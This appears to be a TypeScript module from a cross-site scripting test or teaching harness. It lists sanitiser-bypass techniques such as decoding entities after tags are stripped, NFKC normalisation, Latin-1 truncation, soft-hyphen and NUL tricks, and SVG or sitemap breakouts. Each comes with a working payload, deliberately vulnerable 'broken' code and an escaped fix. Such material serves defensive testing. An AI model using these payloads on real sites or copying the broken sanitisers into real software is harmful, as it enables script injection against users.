import { escapeHtml, inText, type Technique } from './technique.ts'

const removeTags = (text: string): string => text.replace(/<[^>]*>/g, '')
const fixed = (text: string): string => inText(escapeHtml(text))

const picture = (title: string) => ({
  type: 'image/svg+xml',
  body: `<svg xmlns="http://www.w3.org/2000/svg"><title>${title}</title></svg>`,
})

const sitemap = (address: string) => ({
  type: 'application/xml',
  body: `<?xml version="1.0" encoding="UTF-8"?><urlset><url><loc>${address}</loc></url></urlset>`,
})

/** Against texts that are changed after they were sanitised, and against files that are not pages. */
export const lateTechniques: Technique[] = [
  {
    name: 'decoded entities',
    weakness: 'entities are decoded after tags were removed',
    payload: ({ call }) => `&lt;svg onload=${call}&gt;`,
    broken: (text) => inText(removeTags(text).replaceAll('&lt;', '<').replaceAll('&gt;', '>')),
    fixed,
  },
  {
    name: 'full-width brackets',
    weakness: 'the text is normalized (NFKC) after it was escaped',
    payload: ({ call }) => `＜svg onload=${call}＞`,
    broken: (text) => inText(escapeHtml(text).normalize('NFKC')),
    fixed,
  },
  {
    name: 'low byte',
    weakness: 'the escaped text is written as Latin-1, which keeps the low byte of each character',
    payload: ({ call }) => `\u013csvg onload=${call}\u013e`,
    broken: (text) => inText(Buffer.from(escapeHtml(text), 'latin1').toString('latin1')),
    fixed,
  },
  {
    name: 'soft hyphen',
    weakness: 'invisible characters are removed after tags were',
    payload: ({ call }) => `<\u00adsvg onload=${call}>`,
    broken: (text) => inText(text.replace(/<\/?[a-z][^>]*>/gi, '').replaceAll('\u00ad', '')),
    fixed,
  },
  {
    name: 'NUL',
    weakness: 'control characters are removed after tags were',
    payload: ({ call }) => `<\0svg onload=${call}>`,
    broken: (text) => inText(text.replace(/<\/?[a-z][^>]*>/gi, '').replaceAll('\0', '')),
    fixed,
  },
  {
    name: 'picture opened as a document',
    weakness: 'a text in an SVG file is not escaped',
    payload: ({ call }) => `</title><script>${call}</script><title>`,
    broken: picture,
    fixed: (text) => picture(escapeHtml(text)),
  },
  {
    name: 'XML file',
    weakness: 'a text in a sitemap is not escaped',
    payload: ({ call }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
    broken: sitemap,
    fixed: (text) => sitemap(escapeHtml(text)),
  },
]
